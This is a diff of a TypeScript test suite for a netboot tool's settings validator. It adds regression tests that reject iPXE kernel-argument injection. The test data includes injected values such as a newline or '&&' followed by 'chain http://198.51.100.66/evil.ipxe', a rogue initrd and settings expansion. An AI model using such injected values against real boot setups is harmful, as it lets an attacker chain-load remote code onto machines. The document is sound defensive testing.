@@ -170,15 +170,26 @@ describe("site settings: what each value's consumer forbids", () => {
     expect(siteFrom((v) => ((v.gke.mode = "existing"), (v.gke.location = "europe-west1-b"), (v.gke.clusterName = cluster))).gke.clusterName).toBe(cluster);
   });
 
-  test("rescue.args reach the iPXE kernel line: one token each (iPXE's ${...} stays allowed)", () => {
+  test("rescue.args reach the iPXE kernel line: the one kernel-argument rule (iPXE's ${mac}/${ip} expansions stay allowed)", () => {
     const args = (list: string[]) => siteProblems((v) => (v.rescue.args = list));
+    const allowed =
+      'allowed: one token iPXE and Linux both read as one argument: no spaces or control characters, not "&&", "||", ";" or starting with "#", no "${" (iPXE settings expansion) other than ${mac}, ${mac:hexhyp}, ${net0/mac:hexhyp}, ${ip} and the like, balanced double quotes, e.g. console=ttyS1,115200n8';
     expect(args(["boot=live", "quiet\nchain http://198.51.100.66/evil.ipxe"])).toEqual([
-      expect.stringMatching(/^rescue\.args\[1\]: "quiet\\nchain http:\/\/198\.51\.100\.66\/evil\.ipxe" contains a newline; allowed: one kernel argument per entry without spaces, tabs or line breaks/),
+      `rescue.args[1]: "quiet\\nchain http://198.51.100.66/evil.ipxe" is not one kernel argument: it contains a newline; ${allowed}`,
     ]);
-    expect(args(["console=ttyS0 quiet"])).toEqual([expect.stringMatching(/^rescue\.args\[0\]: "console=ttyS0 quiet" contains a space; allowed: one kernel argument/)]);
-    expect(args(["a\tb"])).toEqual([expect.stringMatching(/^rescue\.args\[0\]: "a\\tb" contains a control character \(e\.g\. a tab\)/)]);
-    expect(args([""])).toEqual([expect.stringMatching(/^rescue\.args\[0\]: "" is empty; allowed: one kernel argument/)]);
-    expect(siteFrom((v) => (v.rescue.args = ["netboot.mac=${net0/mac:hexhyp}"])).rescue?.args).toEqual(["netboot.mac=${net0/mac:hexhyp}"]);
+    expect(args(["console=ttyS0 quiet"])).toEqual([`rescue.args[0]: "console=ttyS0 quiet" is not one kernel argument: it contains a space; ${allowed}`]);
+    expect(args(["a\tb"])).toEqual([`rescue.args[0]: "a\\tb" is not one kernel argument: it contains a control character (e.g. a tab); ${allowed}`]);
+    expect(args([""])).toEqual([`rescue.args[0]: "" is empty; ${allowed}`]);
+    // Regression (issue 26): "&&", "||", a second initrd= and an unmatched quote were accepted.
+    expect(args(["boot=live", "&&", "chain", "http://198.51.100.66/x"])).toEqual([
+      `rescue.args[1]: "&&" is an iPXE command separator, which would run the rest of the kernel line as another iPXE command; ${allowed}`,
+    ]);
+    expect(args(["||"])).toEqual([`rescue.args[0]: "||" is an iPXE command separator, which would run the rest of the kernel line as another iPXE command; ${allowed}`]);
+    expect(args(["#"])).toEqual([`rescue.args[0]: "#" starts an iPXE comment, which would drop every argument after it (netboot's talos.config= too); ${allowed}`]);
+    expect(args(["initrd=evil.img"])).toEqual(["rescue.args[0]: initrd= is set by the boot profile itself (initrd=, talos.platform=, talos.config=); remove it"]);
+    expect(args(['x="quoted'])).toEqual([`rescue.args[0]: "x=\\"quoted" has an unmatched double quote, so Linux would read the rest of the command line as its value; ${allowed}`]);
+    expect(args(["x=${filename}"])).toEqual([`rescue.args[0]: "x=\${filename}" contains "\${", which iPXE expands as a setting when it runs the kernel line; ${allowed}`]);
+    expect(siteFrom((v) => (v.rescue.args = ["netboot.mac=${net0/mac:hexhyp}", 'x="a"'])).rescue?.args).toEqual(["netboot.mac=${net0/mac:hexhyp}", 'x="a"']);
   });
 
   test("asset URLs must parse as URLs (WHATWG), on one line, with a file name and without credentials", () => {
@@ -277,7 +288,7 @@ describe("key files and the key-writing commands", () => {
     const site = fixtureSiteValue();
     site.wireguard.peersFile = peersFile;
     writeFileSync(join(dir, "site.yaml"), stringify(site));
-    return { dir, env: { ...process.env, SITE_CONFIG: join(dir, "site.yaml"), NETBOOT_KEY_DIR: dir }, keyFile, peersFile };
+    return { dir, env: { SITE_CONFIG: join(dir, "site.yaml"), NETBOOT_KEY_DIR: dir }, keyFile, peersFile };
   }
 
   test("argument errors: one error line naming the flag, the usage line, exit 2, no stack trace, nothing written (the real commands)", async () => {
